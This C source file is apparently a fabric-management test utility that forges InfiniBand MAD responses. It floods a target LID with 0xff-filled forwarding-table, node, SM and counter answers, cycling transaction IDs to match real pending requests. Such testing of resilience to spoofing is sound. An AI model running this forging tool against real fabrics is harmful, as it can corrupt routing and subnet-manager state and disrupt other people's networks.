/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * forge_tool: what root on one node can send in the name of others.
 *
 *   forge_tool answers LID SECONDS [ATTRIBUTE]   responses that nobody sent, to the port of that
 * LID: tables, counters and SM information full of 0xff (or of one attribute only), with the
 * transaction ids that count up from 1 in each place of a window
 */
#include "fabric/base/time/clock.h"
#include "fabric/ib/codec.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define SLOTS	    32
#define GENERATIONS 300
#define SLOT_BITS   10

struct lie {
	uint8_t mgmt_class;
	uint16_t attr;
	uint32_t mods; /* 0 .. mods - 1 */
};

static const struct lie lies[] = {
	{ MAD_SMP, SMP_LFT, 2 },   { MAD_SMP, SMP_NODE_INFO, 1 },  { MAD_SMP, SMP_SM_INFO, 1 },
	{ MAD_SMP, SMP_SL2VL, 4 }, { MAD_PERF, PERF_COUNTERS, 1 }, { MAD_PERF, PERF_CLASS_INFO, 1 },
};

static uint64_t send_all(struct mad_port *port, uint16_t lid, uint16_t attr, uint32_t tid)
{
	uint64_t n = 0;

	for (size_t k = 0; k < sizeof(lies) / sizeof(*lies); k++) {
		for (uint32_t mod = 0; mod < lies[k].mods && (!attr || attr == lies[k].attr);
		     mod++) {
			struct mad_request r = { .mgmt_class = lies[k].mgmt_class,
						 .method = MAD_GET_RESP,
						 .attr = lies[k].attr,
						 .mod = mod,
						 .lid = lid };
			struct mad_packet p;
			struct err err;

			memset(r.data, 0xff, sizeof(r.data));
			if (r.mgmt_class == MAD_PERF)
				r.data[1] = 1; /* the port that they are of */
			mad_build(&p, &r, tid);
			n += !port->ops->send(port->ctx, &p, &err);
			usleep(50);
		}
	}
	return n;
}

int main(int argc, char **argv)
{
	uint64_t end, n = 0;
	struct mad_port port;
	struct err err;

	if (argc < 4 || argc > 5 || strcmp(argv[1], "answers") != 0) {
		fputs("usage: see the head of forge_tool.c\n", stderr);
		return 64;
	}
	if (umad_port_open(&port, NULL, 0, &err)) {
		fprintf(stderr, "%s\n", err.text);
		return 1;
	}
	puts("sending");
	fflush(stdout);
	end = clock_ms() + 1000 * (uint64_t)atoi(argv[3]);
	while (clock_ms() < end)
		for (uint32_t t = 0; t < SLOTS * GENERATIONS && clock_ms() < end; t++)
			n += send_all(&port, (uint16_t)atoi(argv[2]),
				      argc > 4 ? (uint16_t)strtoul(argv[4], NULL, 0) : 0,
				      (t / SLOTS + 1) << SLOT_BITS | t % SLOTS);
	port.ops->close(port.ctx);
	printf("sent %llu\n", (unsigned long long)n);
	return 0;
}
